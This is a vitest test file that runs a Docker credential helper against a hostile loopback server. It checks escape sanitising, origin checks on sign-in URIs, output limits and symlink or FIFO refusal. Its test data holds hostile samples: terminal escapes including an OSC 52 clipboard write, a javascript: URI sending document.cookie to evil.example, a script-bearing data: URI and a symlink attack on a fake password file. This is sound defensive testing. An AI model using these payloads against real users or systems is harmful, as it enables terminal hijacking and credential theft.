import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../helpers/build.js';

// docker-credential-berth (the compiled bin, as docker runs it) against a Berth that is not one: a
// loopback server that answers the device flow with whatever a hostile or broken server might send.

const NOT_FOUND = 'credentials not found in native keychain\n';
/** What may reach a terminal from the helper: printable text and line breaks, nothing a terminal interprets. */
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
/** Everything a terminal could act on: clear screen, an OSC 8 link, an OSC 52 clipboard write, C1 CSI, a bidi override. */
const NASTY = '\x1b[2J\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x9b31m\r\u202e';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

let helper: string;
let work: string;

function runHelper(args: string[], input: string | null, env: Record<string, string>): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [helper, ...args], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...env }, stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code: code ?? (signal ? 128 : 1), stdout, stderr });
    });
    child.stdin.end(input ?? '');
  });
}

function freshHome(): { HOME: string; XDG_CONFIG_HOME: string; dir: string } {
  const home = mkdtempSync(join(work, 'home-'));
  return { HOME: home, XDG_CONFIG_HOME: join(home, 'config'), dir: join(home, 'config', 'berth') };
}

/** A Berth-like server on loopback: `code` answers /device/code, `tokens` the successive /device/token polls. */
interface Hostile {
  url: string;
  requests: string[];
  code: (origin: string) => Record<string, unknown>;
  tokens: { status: number; body: Record<string, unknown> }[];
}

const servers: Server[] = [];

async function hostile(code: Hostile['code'], tokens: Hostile['tokens'] = []): Promise<Hostile> {
  const h: Hostile = { url: '', requests: [], code, tokens };
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    req.resume();
    req.on('end', () => {
      h.requests.push(`${req.method} ${req.url}`);
      const send = (status: number, body: unknown) => {
        res.writeHead(status, { 'content-type': 'application/json' });
        res.end(JSON.stringify(body));
      };
      if (req.url === '/device/code') return send(200, h.code(h.url));
      if (req.url === '/device/token') {
        const next = h.tokens.length > 1 ? h.tokens.shift()! : h.tokens[0];
        return next ? send(next.status, next.body) : send(400, { error: 'access_denied' });
      }
      send(404, { error: 'not_found' });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  servers.push(server);
  h.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return h;
}

const goodCode = (origin: string) => ({ device_code: 'dc', user_code: 'BCDF-GHJK', verification_uri: `${origin}/device`, verification_uri_complete: `${origin}/device?user_code=BCDF-GHJK`, expires_in: 30, interval: 1 });

beforeAll(() => {
  helper = ensureBuilt('credential-helper');
  work = mkdtempSync(join(tmpdir(), 'berth-helper-hostile-'));
}, 120_000);

afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => new Promise((r) => (s.close(r), s.closeAllConnections()))));
});

afterAll(() => {
  rmSync(work, { recursive: true, force: true });
});

describe('a server that prints control characters', () => {
  it('reaches neither stderr nor stdout with escape sequences, whatever field carries them', async () => {
    const srv = await hostile(
      (origin) => ({ device_code: 'dc', user_code: `BCDF${NASTY}-GHJK`, verification_uri: `${origin}/device${NASTY}`, verification_uri_complete: `${origin}/device?user_code=${NASTY}`, expires_in: 30, interval: 1 }),
      [
        { status: 503, body: { error_description: `restarting${NASTY}` } },
        { status: 400, body: { error: `server_error${NASTY}`, error_description: `gone${NASTY}` } },
      ],
    );
    const h = freshHome();
    const run = await runHelper(['get'], 'registry.example.com\n', { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com' });
    expect(run.code).toBe(1);
    // It did show the sign-in and report both failures, only without the escapes.
    expect(run.stderr).toContain('enter the code BCDF');
    expect(run.stderr).toContain('still waiting');
    expect(run.stdout).toMatch(/^Berth ended the sign-in: server_error/);
    expect(run.stderr).not.toMatch(CONTROL);
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stdout.split('\n')).toHaveLength(2);
  });

  it('cannot flood the terminal: long codes and texts are cut, a long address is refused', async () => {
    const long = await hostile((o) => ({ ...goodCode(o), user_code: 'B'.repeat(100_000) }), [{ status: 400, body: { error: 'e'.repeat(100_000), error_description: 'd'.repeat(100_000) } }]);
    const h = freshHome();
    const env = { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_URL: long.url, BERTH_REGISTRIES: 'registry.example.com' };
    const run = await runHelper(['get'], 'registry.example.com', env);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^Berth ended the sign-in: e+…: d+…\n$/);
    expect(run.stdout.length).toBeLessThan(1000);
    expect(run.stderr.length).toBeLessThan(1000);

    const address = await hostile((o) => ({ ...goodCode(o), verification_uri: `${o}/device?pad=${'p'.repeat(100_000)}` }));
    const refused = await runHelper(['get'], 'registry.example.com', { ...env, BERTH_URL: address.url });
    expect(refused.code).toBe(1);
    expect(refused.stdout).toMatch(/sent a sign-in address of \d+ characters; refusing to show it\n$/);
    expect(refused.stderr).toBe('');
  });

  it('refuses a user name with control characters instead of storing and printing it', async () => {
    const srv = await hostile(goodCode, [{ status: 200, body: { access_token: 'berth_pat_x', token_type: 'Bearer', username: `mallory${NASTY}`, expires_in: 3600, token_id: 't1' } }]);
    const h = freshHome();
    const run = await runHelper(['get'], 'registry.example.com', { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com' });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('user name');
    expect(run.stderr + run.stdout).not.toMatch(CONTROL);
    expect(existsSync(join(h.dir, 'credentials.json'))).toBe(false);
  });
});

describe('a verification URI off the Berth origin', () => {
  const cases: [string, (origin: string) => Record<string, unknown>][] = [
    ['javascript: verification_uri', (o) => ({ ...goodCode(o), verification_uri: 'javascript:fetch("https://evil.example/?"+document.cookie)', verification_uri_complete: undefined })],
    ['another origin', (o) => ({ ...goodCode(o), verification_uri: 'https://berth.evil.example/device', verification_uri_complete: 'https://berth.evil.example/device?user_code=BCDF-GHJK' })],
    ['another port on the same host', (o) => ({ ...goodCode(o), verification_uri: `${o.replace(/:\d+$/, ':1')}/device`, verification_uri_complete: undefined })],
    ['a good verification_uri with a foreign verification_uri_complete', (o) => ({ ...goodCode(o), verification_uri_complete: 'data:text/html,<script>alert(1)</script>' })],
    ['credentials in the URI', (o) => ({ ...goodCode(o), verification_uri: o.replace('http://', 'http://evil.example@') + '/device', verification_uri_complete: undefined })],
  ];
  for (const [name, code] of cases) {
    it(`is not shown, and nothing is polled: ${name}`, async () => {
      const srv = await hostile(code);
      const h = freshHome();
      const run = await runHelper(['get'], 'registry.example.com', { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com' });
      expect(run.code).toBe(1);
      expect(run.stdout).toContain('not on its own origin');
      for (const out of [run.stdout, run.stderr]) {
        expect(out).not.toMatch(/javascript:|data:|evil\.example|:1\//);
        expect(out).not.toContain('BCDF-GHJK');
      }
      expect(srv.requests).toEqual(['POST /device/code']);
    });
  }

  it('a same-origin URI is shown as given', async () => {
    const srv = await hostile(goodCode, [{ status: 400, body: { error: 'access_denied' } }]);
    const h = freshHome();
    const run = await runHelper(['get'], 'registry.example.com', { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com' });
    expect(run).toMatchObject({ code: 1, stdout: 'the sign-in was denied in the browser\n' });
    expect(run.stderr).toContain(`open ${srv.url}/device in a browser and enter the code BCDF-GHJK`);
    expect(run.stderr).toContain(`(or open ${srv.url}/device?user_code=BCDF-GHJK)`);
  });
});

describe('which registries BERTH_URL serves', () => {
  const envFor = (h: ReturnType<typeof freshHome>, extra: Record<string, string>) => ({ HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, ...extra });

  it('not a registry it is not configured for: not found, a one-line hint, and no request to Berth', async () => {
    const srv = await hostile(goodCode);
    const h = freshHome();
    const run = await runHelper(['get'], 'evil.example.com\n', envFor(h, { BERTH_URL: srv.url }));
    expect(run).toMatchObject({ code: 1, stdout: NOT_FOUND });
    expect(run.stderr).toMatch(/^docker-credential-berth: no Berth is configured for evil\.example\.com; .*BERTH_REGISTRIES.*\n$/);
    expect(srv.requests).toEqual([]);
    // Not for one BERTH_REGISTRIES does not name either.
    const other = await runHelper(['get'], 'evil.example.com', envFor(h, { BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com, other.example:5000' }));
    expect(other).toMatchObject({ code: 1, stdout: NOT_FOUND });
    expect(srv.requests).toEqual([]);
    expect(existsSync(join(h.dir, 'credentials.json'))).toBe(false);
  });

  it('the registries BERTH_REGISTRIES names, as docker spells them', async () => {
    const srv = await hostile(goodCode, [{ status: 400, body: { error: 'access_denied' } }]);
    const h = freshHome();
    const run = await runHelper(['get'], 'https://Other.Example:5000/v1/', envFor(h, { BERTH_URL: srv.url, BERTH_REGISTRIES: 'registry.example.com, other.example:5000' }));
    expect(run.stdout).toBe('the sign-in was denied in the browser\n');
    expect(srv.requests[0]).toBe('POST /device/code');
  });

  it('a registry on this machine when BERTH_URL is on this machine too (the demo), not with a remote Berth', async () => {
    const srv = await hostile(goodCode, [{ status: 400, body: { error: 'access_denied' } }]);
    const h = freshHome();
    const local = await runHelper(['get'], '127.0.0.1:5000', envFor(h, { BERTH_URL: srv.url }));
    expect(local.stdout).toBe('the sign-in was denied in the browser\n');
    expect(srv.requests[0]).toBe('POST /device/code');
    // A remote Berth is not contacted at all (.invalid never resolves): the refusal comes first.
    const remote = await runHelper(['get'], 'localhost:5000', envFor(h, { BERTH_URL: 'https://berth.example.invalid' }));
    expect(remote).toMatchObject({ code: 1, stdout: NOT_FOUND });
    expect(remote.stderr).toContain('no Berth is configured for localhost:5000');
  });

  it('helper.json entries without BERTH_URL; a missing one gets the hint', async () => {
    const srv = await hostile(goodCode, [{ status: 400, body: { error: 'access_denied' } }]);
    const h = freshHome();
    mkdirSync(h.dir, { recursive: true, mode: 0o700 });
    writeFileSync(join(h.dir, 'helper.json'), JSON.stringify({ registries: { 'registry.example.com': srv.url } }));
    expect((await runHelper(['get'], 'registry.example.com', envFor(h, {}))).stdout).toBe('the sign-in was denied in the browser\n');
    const missing = await runHelper(['get'], 'docker.io', envFor(h, {}));
    expect(missing).toMatchObject({ code: 1, stdout: NOT_FOUND });
    expect(missing.stderr).toMatch(/^docker-credential-berth: no Berth is configured for docker\.io; add it to .*helper\.json.*\n$/);
    expect(srv.requests.filter((r) => r === 'POST /device/code')).toHaveLength(1);
  });

  it('BERTH_REGISTRIES must be host names', async () => {
    const h = freshHome();
    const run = await runHelper(['list'], null, envFor(h, { BERTH_URL: 'https://berth.example.invalid', BERTH_REGISTRIES: 'registry.example.com, https://x.example/path' }));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('BERTH_REGISTRIES');
  });

  it('a configured registry without a token under BERTH_NO_LOGIN says why on stderr', async () => {
    const h = freshHome();
    const run = await runHelper(['get'], 'registry.example.com', envFor(h, { BERTH_URL: 'https://berth.example.invalid', BERTH_REGISTRIES: 'registry.example.com', BERTH_NO_LOGIN: '1' }));
    expect(run).toMatchObject({ code: 1, stdout: NOT_FOUND });
    expect(run.stderr).toMatch(/^docker-credential-berth: no token for registry\.example\.com and BERTH_NO_LOGIN=1.*\n$/);
  });
});

describe('credentials.json that is not a regular file', () => {
  const secretContent = 'root:$6$hashhashhash:19000:0:99999:7:::\n';

  function homeWithTarget() {
    const h = freshHome();
    mkdirSync(h.dir, { recursive: true, mode: 0o700 });
    const target = join(work, `target-${Math.random().toString(36).slice(2)}`);
    writeFileSync(target, secretContent, { mode: 0o644 });
    chmodSync(target, 0o644);
    return { h, target, env: { HOME: h.HOME, XDG_CONFIG_HOME: h.XDG_CONFIG_HOME, BERTH_NO_LOGIN: '1' } };
  }

  it('a symlink is refused: not followed, not chmod-ed, its target neither echoed nor replaced', async () => {
    const { h, target, env } = homeWithTarget();
    symlinkSync(target, join(h.dir, 'credentials.json'));
    for (const [args, input] of [
      [['get'], 'registry.example.com'],
      [['list'], null],
      [['store'], JSON.stringify({ ServerURL: 'r.example', Username: 'u', Secret: 's' })],
      [['erase'], 'r.example'],
    ] as [string[], string | null][]) {
      const run = await runHelper(args, input, env);
      expect(run.code, args[0]).toBe(1);
      expect(run.stdout).toContain('is not a regular file');
      expect(run.stdout + run.stderr).not.toContain('root:');
      expect(run.stdout + run.stderr).not.toContain('hash');
    }
    expect(statSync(target).mode & 0o777).toBe(0o644);
    expect(readFileSync(target, 'utf8')).toBe(secretContent);
  });

  it('a FIFO is refused without hanging', async () => {
    const { h, env } = homeWithTarget();
    execFileSync('mkfifo', [join(h.dir, 'credentials.json')]);
    const started = Date.now();
    const run = await runHelper(['list'], null, env);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('is not a regular file');
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  it('a damaged regular file is reported without echoing its content', async () => {
    const { h, env } = homeWithTarget();
    writeFileSync(join(h.dir, 'credentials.json'), secretContent, { mode: 0o600 });
    const run = await runHelper(['list'], null, env);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('is damaged');
    expect(run.stdout + run.stderr).not.toContain('root:');
    expect(run.stdout + run.stderr).not.toContain('hash');
  });
});
